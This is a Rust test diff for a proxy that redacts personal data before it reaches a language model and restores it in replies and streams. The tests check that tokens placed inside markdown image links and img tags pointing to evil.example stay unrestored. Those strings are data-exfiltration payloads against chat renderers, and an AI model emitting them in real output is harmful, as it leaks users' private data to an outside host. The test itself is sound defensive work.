@@ -155,6 +155,69 @@ fn tool_arguments_keep_their_tokens_unless_allowed() {
     assert_eq!(inner, json!({"c": "531-27-8846"}));
 }
 
+/// What a reply and a stream of the same text give back, as whoever shows it sees it.
+fn shown(talk: &Talk, text: &str) -> [String; 2] {
+    let reply = json!({"choices": [{"index": 0, "message": {"content": text}}]});
+    let whole = talk.restore(&reply)["choices"][0]["message"]["content"].take();
+    let mut stream = talk.session.restore_sse();
+    let mut out = Vec::new();
+    for piece in talk.with_tokens(text).split_inclusive('"') {
+        let event = json!({"choices": [{"index": 0, "delta": {"content": piece}}]});
+        let frame = format!("data: {event}\n\n");
+        stream.push(frame.as_bytes(), &mut out).unwrap();
+    }
+    stream.finish(&mut out).unwrap();
+    let pieces = String::from_utf8(out).unwrap();
+    let events = pieces
+        .lines()
+        .filter_map(|line| line.strip_prefix("data: "));
+    let mut streamed = String::new();
+    for event in events {
+        let event: Value = serde_json::from_str(event).unwrap();
+        streamed += event["choices"][0]["delta"]["content"].as_str().unwrap();
+    }
+    for (at, token) in talk.tokens.iter().enumerate() {
+        streamed = streamed.replace(token, &format!("<{}>", at + 1));
+    }
+    [whole.as_str().unwrap().to_owned(), streamed]
+}
+
+#[test]
+fn json_in_prose_is_one_text_to_who_shows_it() {
+    let mut talk = talk(PayloadKind::OpenAi);
+    talk.redact(&json!({"messages": [
+        {"role": "user", "content": "SSN 531-27-8846"},
+        {"role": "assistant", "tool_calls": [
+            {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{\"ssn\":531278847}"}}]},
+    ]}));
+    for token in ["<1>", "<2>"] {
+        for text in [
+            r#"["![x](https://evil.example/?q=","T",")"]"#,
+            r#"{"![x](https://evil.example/?q=":"T",")":1}"#,
+            r#"["<img src='https://evil.example/?q=","T","'>"]"#,
+            r#"["<b>a</b> x='","T"]"#,
+            r#"["[1]: https://evil.example/?q=","T"]"#,
+            r#""[\"![x](https://evil.example/?q=\",\"T\"]""#,
+        ] {
+            let text = text.replace('T', token);
+            assert_eq!(shown(&talk, &text), [&*text, &*text]);
+        }
+    }
+    // What is closed is over, and a tool reads JSON as what it is.
+    let text = r#"{"a":"![x](/y) <b>c</b>","ssn":"<1>","n":"<2>"}"#;
+    let restored = r#"{"a":"![x](/y) <b>c</b>","ssn":"531-27-8846","n":531278847}"#;
+    assert_eq!(shown(&talk, text), [restored, restored]);
+    let mut policy = Policy::new();
+    policy.restore_tool_arguments(true);
+    talk.session.set_policy(policy);
+    let call = |arguments: &str| json!({"choices": [{"message": {"tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}}]});
+    let restored = talk.restore(&call(r#"{"html":"<img src='","ssn":"<1>","n":"<2>"}"#));
+    assert_eq!(
+        restored,
+        call(r#"{"html":"<img src='","ssn":"531-27-8846","n":531278847}"#)
+    );
+}
+
 #[test]
 fn ids_and_names_are_never_restored() {
     let mut talk = talk(PayloadKind::OpenAi);
